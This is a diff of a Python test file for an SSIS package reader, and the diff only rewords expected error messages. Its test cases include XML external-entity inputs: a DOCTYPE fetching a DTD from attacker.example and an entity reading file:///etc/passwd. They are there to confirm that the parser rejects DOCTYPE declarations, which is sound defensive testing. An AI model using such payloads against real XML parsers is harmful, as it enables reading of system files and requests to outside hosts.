@@ -35,7 +35,7 @@ NAMESPACE = 'xmlns:DTS="www.microsoft.com/SqlServer/Dts"'
         ("<a><b></a>", "not well-formed XML: mismatched tag at line 1, column 9"),
         ('<?xml version="1.0" encoding="klingon"?><a/>', "encoding"),
         ('<?xml version="1.0" encoding="shift_jis"?><a/>', "encoding"),
-        (f"<DTS:Executable {NAMESPACE}><EncryptedData/></DTS:Executable>", "encrypted whole"),
+        (f"<DTS:Executable {NAMESPACE}><EncryptedData/></DTS:Executable>", "completely encrypted"),
         ('<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', "DOCTYPE"),
         ('<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>', "DOCTYPE"),
         ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "DOCTYPE"),
@@ -183,7 +183,7 @@ def test_damage_is_told_where_it_is(tmp_path: Path) -> None:
     path.write_bytes(octets)
     assert "could not be unpacked" in str(read_project(path).unreadable[0][1])
     path.write_bytes(b"PK no zip")
-    with pytest.raises(PackageError, match=r"no \.ispac"):
+    with pytest.raises(PackageError, match=r"not an \.ispac"):
         read_project(path)
 
 
